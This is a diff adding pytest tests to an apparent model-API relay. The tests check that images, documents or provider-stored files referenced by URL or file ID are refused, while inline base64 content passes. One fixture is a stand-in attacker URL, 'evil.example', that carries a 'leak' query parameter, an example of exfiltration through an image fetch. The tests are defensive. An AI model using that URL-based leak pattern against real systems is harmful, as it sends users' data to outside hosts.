@@ -375,3 +375,57 @@ def test_anthropics_effort_setting_stays_the_scaffolds(relays: RelayFactory) -> 
         status, answer = send(relay, "anthropic", high)
     assert status == 403 and "reasoning-effort" in message(answer)
     assert len(p.requests) == 1
+
+
+def _user(api: str, part: dict[str, object]) -> dict[str, object]:
+    if api == "google":
+        return {"contents": [{"role": "user", "parts": [{"text": "look"}, part]}]}
+    key = "input" if api == "openai-responses" else "messages"
+    return {key: [{"role": "user", "content": [part]}]}
+
+
+ELSEWHERE = "https://evil.example/x.png?leak=the-secret-plan"
+INLINE = "data:image/png;base64,AA"
+
+
+@pytest.mark.parametrize(
+    ("api", "part"),
+    [
+        ("openai-compatible", {"type": "image_url", "image_url": {"url": ELSEWHERE}}),
+        ("openai", {"type": "image_url", "image_url": ELSEWHERE}),
+        ("openai", {"type": "file", "file": {"file_id": "file-of-another-run"}}),
+        ("openai-responses", {"type": "input_image", "image_url": ELSEWHERE}),
+        ("openai-responses", {"type": "input_image", "file_id": "file-1"}),
+        ("openai-responses", {"type": "input_file", "file_url": ELSEWHERE}),
+        ("anthropic", {"type": "document", "source": {"type": "url", "url": ELSEWHERE}}),
+        ("anthropic", {"type": "image", "source": {"type": "file", "file_id": "file-1"}}),
+        ("anthropic", {"type": "container_upload", "file_id": "file-1"}),
+        ("google", {"fileData": {"fileUri": ELSEWHERE, "mimeType": "image/png"}}),
+        ("google", {"file_data": {"file_uri": ELSEWHERE}}),
+    ],
+)
+def test_content_the_provider_would_fetch_is_refused(
+    relays: RelayFactory, api: str, part: dict[str, object]
+) -> None:
+    """An image or document by URL (or a file stored with the provider) makes the provider
+    reach out for the model: the web, or another run's files, through the operator's key."""
+    with FakeProvider(lambda r: Reply(text="hi")) as p:
+        relay = relays(p, api)
+        status, answer = send(relay, api, body_for(api, **_user(api, part)))
+    assert status == 403 and "would fetch" in message(answer)
+    assert p.requests == []
+
+
+@pytest.mark.parametrize(
+    ("api", "part"),
+    [
+        ("openai-compatible", {"type": "image_url", "image_url": {"url": INLINE}}),
+        ("anthropic", {"type": "image", "source": {"type": "base64", "data": "AA"}}),
+        ("google", {"inlineData": {"mimeType": "image/png", "data": "AA"}}),
+    ],
+)
+def test_inline_content_passes(relays: RelayFactory, api: str, part: dict[str, object]) -> None:
+    with FakeProvider(lambda r: Reply(text="hi")) as p:
+        relay = relays(p, api)
+        assert send(relay, api, body_for(api, **_user(api, part)))[0] == 200
+    assert len(p.requests) == 1
